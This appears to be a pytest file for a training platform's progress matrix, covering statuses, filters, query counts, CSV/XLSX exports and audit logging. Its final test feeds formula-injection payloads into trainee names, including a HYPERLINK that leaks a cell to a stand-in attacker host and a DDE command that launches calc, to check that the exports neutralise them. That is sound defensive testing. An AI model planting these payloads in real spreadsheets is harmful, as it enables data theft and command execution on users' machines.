"""The completion matrix: statuses, filters, sort, a fixed number of queries, and exports."""

import csv
import io
from datetime import UTC, datetime
from urllib.parse import unquote

from openpyxl import load_workbook
from sqlalchemy import event, select

from lms.auth.models import AuditEvent
from lms.certificates.models import Certificate
from lms.extensions import db
from lms.modules.services import mark_complete, record_visit
from lms.progress.matrix import completion_matrix
from lms.progress.states import CertificateState, PhaseState


def finish_module(user, module):
    for lesson in module.lessons:
        mark_complete(user, lesson)
    db.session.commit()


def test_matrix_shows_each_step(client, auth, make_cohort, make_user, enrolments, answer_survey):
    cohort = make_cohort(trainees=3)
    first, second, third = enrolments(cohort)
    first.user.full_name, second.user.full_name, third.user.full_name = (
        "Bùi Thị Ánh",
        "Cao Văn Bình",
        "Đoàn Thị Châu",
    )
    db.session.commit()
    module = cohort.modules[0].module
    answer_survey(first, "pre", knowledge=0)
    finish_module(first.user, module)
    record_visit(second.user, module.lessons[0])
    second.pre_survey_waived = True
    db.session.add(Certificate(enrolment_id=first.id, code="ABCD-EFGH", snapshot={}))
    db.session.commit()

    matrix = completion_matrix(cohort)
    rows = {row.user.full_name: row for row in matrix.rows}
    assert rows["Bùi Thị Ánh"].pre.state == PhaseState.DONE
    assert rows["Bùi Thị Ánh"].pre.knowledge_percent is not None
    assert rows["Bùi Thị Ánh"].modules[module.id].completion == "completed"
    assert rows["Bùi Thị Ánh"].certificate == CertificateState.ISSUED
    assert rows["Cao Văn Bình"].pre.state == PhaseState.WAIVED
    assert rows["Cao Văn Bình"].modules[module.id].completion == "started"
    assert rows["Đoàn Thị Châu"].modules[module.id].completion == "not_started"
    assert not rows["Đoàn Thị Châu"].started
    totals = matrix.totals()
    assert totals["pre"] == 1 and totals["pre_waived"] == 1
    assert totals["modules"][module.id] == {"completed": 1, "started": 2}

    auth.login(cohort.facilitators[0])
    page = client.get(f"/cohorts/{cohort.id}/progress").text
    assert "Bùi Thị Ánh" in page and "Total: 3 trainees" in page
    assert "Issued" in page and "Waived" in page


def test_filters_and_sort_work_without_javascript(
    client, auth, make_cohort, enrolments, answer_survey, make_user
):
    cohort = make_cohort(trainees=2)
    ahead, behind = enrolments(cohort)
    ahead.user.full_name, behind.user.full_name = "An Ahead", "Zed Behind"
    behind.user.org_type = "ngo"
    db.session.commit()
    answer_survey(ahead, "pre")
    auth.login(cohort.facilitators[0])
    page = client.get(f"/cohorts/{cohort.id}/progress?org_type=ngo").text
    assert "Zed Behind" in page and "An Ahead" not in page
    page = client.get(f"/cohorts/{cohort.id}/progress?status=not_started").text
    assert "Zed Behind" in page and "An Ahead" not in page
    page = client.get(f"/cohorts/{cohort.id}/progress?sort=progress").text
    assert page.index("Zed Behind") < page.index("An Ahead")
    page = client.get(f"/cohorts/{cohort.id}/progress?sort=name&status=nonsense").text
    assert page.index("An Ahead") < page.index("Zed Behind")


def count_queries(function) -> int:
    statements = []

    def record(*args):
        statements.append(args[2])

    event.listen(db.engine, "before_cursor_execute", record)
    try:
        function()
    finally:
        event.remove(db.engine, "before_cursor_execute", record)
    return len(statements)


def test_matrix_query_count_does_not_grow_with_trainees(make_cohort, enrolments, answer_survey):
    small, large = make_cohort(trainees=2), make_cohort(trainees=12)
    for cohort in (small, large):
        module = cohort.modules[0].module
        for enrolment in enrolments(cohort):
            answer_survey(enrolment, "pre")
            finish_module(enrolment.user, module)
            db.session.add(Certificate(enrolment_id=enrolment.id, snapshot={}, code=f"C{enrolment.id:08d}"))
        db.session.commit()

    def build(cohort):
        db.session.expire_all()
        matrix = completion_matrix(cohort)
        # Touch everything the page shows, so lazy loads would be counted too.
        for row in matrix.rows:
            _ = (row.user.full_name, row.user.org_type, row.enrolment.trainee_code)
        for column in matrix.columns:
            _ = column.module.title_vi

    assert count_queries(lambda: build(small)) == count_queries(lambda: build(large))


def test_csv_export_has_a_bom_and_vietnamese_and_is_audited(
    client, auth, make_cohort, enrolments, answer_survey
):
    cohort = make_cohort(trainees=1)
    (enrolment,) = enrolments(cohort)
    enrolment.user.full_name = "Nguyễn Thị Hương"
    db.session.commit()
    answer_survey(enrolment, "pre")
    auth.login(cohort.facilitators[0])
    response = client.get(f"/cohorts/{cohort.id}/progress.csv")
    assert response.status_code == 200
    assert response.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][0] == "Full name"
    assert rows[1][0] == "Nguyễn Thị Hương"
    assert db.session.scalar(
        select(AuditEvent).where(
            AuditEvent.action == "export_progress", AuditEvent.target == f"cohort:{cohort.id}"
        )
    )


def test_the_exports_are_named_after_the_cohort_in_vietnamese_with_an_ascii_fallback(
    client, auth, make_cohort, make_user
):
    """RFC 6266: filename* carries the UTF-8 name, filename an ASCII one for old browsers."""
    facilitator = make_user("facilitator", language="vi")
    cohort = make_cohort(facilitator=facilitator, name='Lớp Đà Nẵng/2026 "Công an"')
    auth.login(facilitator)
    response = client.get(f"/cohorts/{cohort.id}/progress.xlsx")
    assert response.status_code == 200
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; ")
    assert 'filename="lop da nang 2026 cong an - tien do.xlsx"' in disposition
    encoded = disposition.split("filename*=", 1)[1]
    assert encoded.startswith("UTF-8''") and encoded.isascii() and " " not in encoded
    assert unquote(encoded.removeprefix("UTF-8''")) == "Lớp Đà Nẵng 2026 Công an - Tiến độ.xlsx"
    assert response.headers["Cache-Control"] == "no-store, private"


def test_xlsx_export_has_numbers_and_a_frozen_bold_header(
    client, auth, make_cohort, enrolments, answer_survey
):
    cohort = make_cohort(trainees=1)
    (enrolment,) = enrolments(cohort)
    enrolment.user.full_name = "Trần Văn Đức"
    db.session.commit()
    answer_survey(enrolment, "pre", knowledge=0)
    auth.login(cohort.facilitators[0])
    response = client.get(f"/cohorts/{cohort.id}/progress.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    header = [cell.value for cell in sheet[1]]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert sheet["A2"].value == "Trần Văn Đức"
    knowledge = sheet.cell(row=2, column=header.index("Knowledge % before") + 1).value
    progress = sheet.cell(row=2, column=header.index("Progress %") + 1).value
    assert isinstance(knowledge, int | float) and isinstance(progress, int)
    assert progress > 0
    events = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export_progress")).all()
    assert len(events) == 1 and "xlsx" in events[0].details


def test_matrix_never_shows_attitude_answers(client, auth, make_cohort, enrolments, answer_survey):
    cohort = make_cohort(trainees=1)
    (enrolment,) = enrolments(cohort)
    answer_survey(enrolment, "pre", likert=1)
    auth.login(cohort.facilitators[0])
    for url in (f"/cohorts/{cohort.id}/progress", f"/cohorts/{cohort.id}/progress.csv"):
        text = client.get(url).data.decode("utf-8-sig")
        assert "Strongly disagree" not in text and "A01" not in text


def test_revoked_certificate_is_not_counted(make_cohort, enrolments):
    cohort = make_cohort(trainees=1)
    (enrolment,) = enrolments(cohort)
    db.session.add(
        Certificate(enrolment_id=enrolment.id, code="REVOKED1", snapshot={}, revoked_at=datetime.now(UTC))
    )
    db.session.commit()
    matrix = completion_matrix(cohort)
    assert matrix.rows[0].certificate == CertificateState.REVOKED
    assert matrix.totals()["certificates"] == 0


def test_a_name_written_as_a_formula_stays_text_in_both_matrix_exports(client, auth, make_cohort, enrolments):
    cohort = make_cohort(trainees=4)
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
    ]
    for enrolment, name in zip(enrolments(cohort), hostile, strict=True):
        enrolment.user.full_name = name
    db.session.commit()
    auth.login(cohort.facilitators[0])
    rows = list(
        csv.reader(io.StringIO(client.get(f"/cohorts/{cohort.id}/progress.csv").data.decode("utf-8-sig")))
    )
    assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in hostile)
    sheet = load_workbook(io.BytesIO(client.get(f"/cohorts/{cohort.id}/progress.xlsx").data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sorted(cell.value for cell in sheet["A"][1:]) == sorted("'" + n for n in hostile)
